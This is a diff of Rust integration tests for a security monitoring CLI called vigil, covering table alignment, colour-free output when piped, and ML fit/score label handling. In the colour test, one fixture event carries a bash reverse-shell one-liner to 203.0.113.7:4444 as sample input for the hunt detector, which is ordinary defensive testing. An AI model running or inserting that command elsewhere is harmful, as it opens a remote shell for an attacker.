@@ -153,6 +153,129 @@ fn user_lifecycle_from_the_command_line() {
     assert!(d.0.join("vigil-data/vigil.db").exists());
 }
 
+/// Asserts every row has a cell starting where each header column starts (ASCII rows).
+#[track_caller]
+fn assert_columns_line_up(out: &str) {
+    let mut lines = out.lines();
+    let header = lines.next().expect("a header row");
+    let starts: Vec<usize> = header
+        .char_indices()
+        .filter(|&(i, c)| c != ' ' && (i == 0 || header.as_bytes()[i - 1] == b' '))
+        .map(|(i, _)| i)
+        // "LAST LOGIN": a header of two words is one column.
+        .filter(|&i| !header[..i].ends_with("LAST "))
+        .collect();
+    for line in lines {
+        for &at in &starts[1..] {
+            let b = line.as_bytes();
+            assert!(
+                b.len() > at && b[at - 1] == b' ' && b[at] != b' ',
+                "column at {at} does not line up:\n{out}"
+            );
+        }
+    }
+}
+
+/// Regression: tables were padded to fixed widths, so a long user name, organization, key
+/// name or a wide (CJK) character pushed the rest of its row out of line.
+#[test]
+fn cli_tables_are_aligned_to_their_widest_cell() {
+    let d = tmp();
+    let pw = [("VIGIL_USER_PASSWORD", "a long enough passphrase")];
+    for args in [
+        &["user", "create", "bob", "--org", "東京支社"][..],
+        &[
+            "user",
+            "create",
+            "operations.team-lead@example.org",
+            "--role",
+            "admin",
+        ],
+    ] {
+        let o = vigil(&d.0, args, &pw);
+        assert!(o.status.success(), "{:?}", text(&o));
+    }
+    let o = vigil(&d.0, &["user", "list"], &[]);
+    let (out, err) = text(&o);
+    assert!(o.status.success(), "{err}");
+    let golden = include_str!("golden/user_list.txt");
+    assert_eq!(out, golden, "\n{out}");
+
+    for name in ["short", "a-key-name-much-longer-than-twenty-characters"] {
+        assert!(
+            vigil(&d.0, &["api-key", "create", name], &[])
+                .status
+                .success()
+        );
+    }
+    let (out, _) = text(&vigil(&d.0, &["api-key", "list"], &[]));
+    assert_eq!(out.lines().count(), 3, "{out}");
+    assert_columns_line_up(&out);
+    for desc in [
+        "rack 4",
+        "a much longer description of where this token goes",
+    ] {
+        let o = vigil(&d.0, &["agent-token", "create", "--description", desc], &[]);
+        assert!(o.status.success(), "{:?}", text(&o));
+    }
+    let (out, _) = text(&vigil(&d.0, &["agent-token", "list"], &[]));
+    assert_eq!(out.lines().count(), 3, "{out}");
+    assert_columns_line_up(&out);
+}
+
+/// Regression: `vigil serve` wrote ANSI colour codes into its logs when they went to a
+/// pipe or file (`log.format = "text"`); NO_COLOR was not honoured.
+#[test]
+fn no_colour_codes_when_output_is_not_a_terminal() {
+    use std::io::BufRead;
+    let d = tmp();
+    let mut child = Command::new(env!("CARGO_BIN_EXE_vigil"))
+        .current_dir(&d.0)
+        .arg("serve")
+        .env_clear()
+        .env("PATH", std::env::var("PATH").unwrap_or_default())
+        .env("VIGIL_SERVER__PORT", "0")
+        .env("VIGIL_LOG__FORMAT", "text")
+        .env("VIGIL_INGEST__LOCAL_AGENT", "false")
+        .env("VIGIL_ADMIN_PASSWORD", "a long enough passphrase")
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    // Read until the server says it listens (its log lines come before that line).
+    let mut out = String::new();
+    let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
+    let mut line = String::new();
+    while reader.read_line(&mut line).unwrap() > 0 {
+        out.push_str(&line);
+        if line.starts_with("Vigil listening") {
+            break;
+        }
+        line.clear();
+    }
+    let _ = child.kill();
+    let o = child.wait_with_output().unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(out.contains("Vigil listening"), "{out}\n{err}");
+    assert!(out.contains("INFO"), "text logs expected: {out}");
+    assert!(!out.contains("\x1b["), "ANSI codes on stdout: {out:?}");
+    assert!(!err.contains("\x1b["), "ANSI codes on stderr: {err:?}");
+
+    // `vigil hunt` prints its table without colour to a pipe.
+    std::fs::write(
+        d.0.join("events.jsonl"),
+        "{\"event.category\":\"process\",\"event.type\":\"start\",\"host.os.type\":\"linux\",         \"process.executable\":\"/usr/bin/bash\",         \"process.command_line\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"}\n",
+    )
+    .unwrap();
+    let o = vigil(&d.0, &["hunt", "events.jsonl"], &[]);
+    let (out, err) = text(&o);
+    assert_eq!(o.status.code(), Some(1), "{out}{err}");
+    assert!(
+        !out.contains("\x1b[") && !err.contains("\x1b["),
+        "{out:?}{err:?}"
+    );
+}
+
 #[test]
 fn hunt_prints_a_table_and_json_lines_and_skips_bad_input() {
     let d = tmp();
@@ -447,6 +570,22 @@ fn ml_fixture() -> PathBuf {
     PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../vigil-ml/tests/fixtures/data.csv")
 }
 
+/// `vigil ml score --model MODEL --csv CSV`.
+fn ml_score(dir: &Path, model: &Path, csv: &str) -> Output {
+    vigil(
+        dir,
+        &[
+            "ml",
+            "score",
+            "--model",
+            model.to_str().unwrap(),
+            "--csv",
+            csv,
+        ],
+        &[],
+    )
+}
+
 fn metric(stderr: &str, name: &str) -> f64 {
     stderr
         .lines()
@@ -494,18 +633,7 @@ fn ml_fit_then_score_a_labelled_csv() {
         std::fs::read(&again).unwrap()
     );
 
-    let o = vigil(
-        &dir.0,
-        &[
-            "ml",
-            "score",
-            "--model",
-            model.to_str().unwrap(),
-            "--csv",
-            csv,
-        ],
-        &[],
-    );
+    let o = ml_score(&dir.0, &model, csv);
     let (out, err) = text(&o);
     assert!(o.status.success(), "{err}");
     let lines: Vec<&str> = out.lines().collect();
@@ -525,19 +653,49 @@ fn ml_fit_then_score_a_labelled_csv() {
     // A JSON model scores the same.
     let json = dir.0.join("model.json");
     assert!(fit(&json).status.success());
-    let o2 = vigil(
+    let o2 = ml_score(&dir.0, &json, csv);
+    assert_eq!(text(&o2).0, out);
+}
+
+/// Regression: `ml fit` without `--label-column` trained on the `label` column, and
+/// `ml score` (which leaves `label` out by default) then refused the file.
+#[test]
+fn ml_fit_without_label_column_leaves_label_out_and_score_accepts_the_file() {
+    let dir = tmp();
+    let csv = ml_fixture();
+    let csv = csv.to_str().unwrap();
+    let model = dir.0.join("m.json");
+    let o = vigil(
         &dir.0,
-        &[
-            "ml",
-            "score",
-            "--model",
-            json.to_str().unwrap(),
-            "--csv",
-            csv,
-        ],
+        &["ml", "fit", "--csv", csv, "--out", model.to_str().unwrap()],
         &[],
     );
-    assert_eq!(text(&o2).0, out);
+    let (_, err) = text(&o);
+    assert!(o.status.success(), "{err}");
+    assert!(
+        err.contains("on 1000 rows x 5 features"),
+        "label must not be a feature: {err}"
+    );
+    assert!(metric(&err, "roc_auc") > 0.95, "{err}");
+    let written: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&model).unwrap()).unwrap();
+    assert!(
+        !written.to_string().contains("\"label\""),
+        "the model names no 'label' feature"
+    );
+    let o = ml_score(&dir.0, &model, csv);
+    let (out, err) = text(&o);
+    assert!(o.status.success(), "{err}");
+    assert_eq!(out.lines().count(), 1001);
+    // The CLI's default threshold is the server's (`[ml] contamination = 0.02`): 2% of the
+    // training rows are over it, and --help says so.
+    let flagged = out.lines().filter(|l| l.ends_with(",true")).count();
+    assert!((15..=25).contains(&flagged), "{flagged} of 1000 flagged");
+    let help = text(&vigil(&dir.0, &["ml", "fit", "--help"], &[])).0;
+    assert!(
+        help.contains("[default: 0.02]") && help.contains("[ml] contamination"),
+        "{help}"
+    );
 }
 
 #[test]
